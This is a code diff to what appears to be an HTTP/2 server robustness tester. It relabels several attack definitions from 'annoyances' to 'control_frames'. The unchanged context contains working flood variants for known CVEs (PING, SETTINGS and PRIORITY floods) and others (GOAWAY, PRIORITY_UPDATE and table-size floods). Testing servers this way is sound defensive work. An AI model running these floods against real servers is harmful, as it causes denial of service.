@@ -4,7 +4,7 @@ module Spate
   module Server
     # Frames about the connection.
     module Attacks
-      attack "PING flood", "CVE-2019-9512", "annoyances" do
+      attack "PING flood", "CVE-2019-9512", "control_frames" do
         variant("PINGs", :ENHANCE_YOUR_CALM) { |peer| peer.flood(20_000) { peer.frame(6, 0, 0, "12345678") } }
         variant("unsolicited answers", :ENHANCE_YOUR_CALM) do |peer|
           peer.flood(20_000) do
@@ -20,7 +20,7 @@ module Spate
         end
       end
 
-      attack "SETTINGS flood", "CVE-2019-9515", "annoyances" do
+      attack "SETTINGS flood", "CVE-2019-9515", "control_frames" do
         variant("empty", :ENHANCE_YOUR_CALM) { |peer| peer.flood(20_000) { peer.frame(4) } }
         variant("full", :ENHANCE_YOUR_CALM) do |peer|
           frame = peer.settings(Array.new(60) { |n| [0xf000 + n, n] })
@@ -32,7 +32,7 @@ module Spate
         variant("acknowledgements", :ENHANCE_YOUR_CALM) { |peer| peer.flood(20_000) { peer.frame(4, 1) } }
       end
 
-      attack "changes of the table's size", nil, "annoyances; a table of at most 4096 bytes" do
+      attack "changes of the table's size", nil, "control_frames; a table of at most 4096 bytes" do
         variant("as large as possible", :served) { |peer| peer.write(peer.settings([1, 2**32 - 1])) }
         variant("alternating, with requests", :ENHANCE_YOUR_CALM) do |peer|
           peer.flood(5000) { |n| peer.settings([1, n.even? ? 0 : 4096]) + peer.request(2 * n + 1) }
@@ -51,7 +51,7 @@ module Spate
         end
       end
 
-      attack "resource loop", "CVE-2019-9513", "annoyances" do
+      attack "resource loop", "CVE-2019-9513", "control_frames" do
         variant("PRIORITY on idle streams", :ENHANCE_YOUR_CALM) do |peer|
           peer.flood(20_000) { |n| peer.frame(2, 0, 2 * n + 1, [n.even? ? 0 : 2 * n - 1, 15].pack("NC")) }
         end
@@ -61,7 +61,7 @@ module Spate
         end
       end
 
-      attack "PRIORITY_UPDATE flood", nil, "annoyances; streams" do
+      attack "PRIORITY_UPDATE flood", nil, "control_frames; streams" do
         update = ->(peer, id, value) { peer.frame(16, 0, 0, [id].pack("N") + value) }
         variant("of one stream", :ENHANCE_YOUR_CALM) do |peer|
           peer.flood(20_000) { |n| update.call(peer, 1, "u=#{n % 8}") }
@@ -82,7 +82,7 @@ module Spate
         end
       end
 
-      attack "GOAWAY flood", nil, "annoyances" do
+      attack "GOAWAY flood", nil, "control_frames" do
         variant("GOAWAYs", :ENHANCE_YOUR_CALM) { |peer| peer.flood(20_000) { peer.frame(7, 0, 0, "\0" * 8) } }
       end
     end
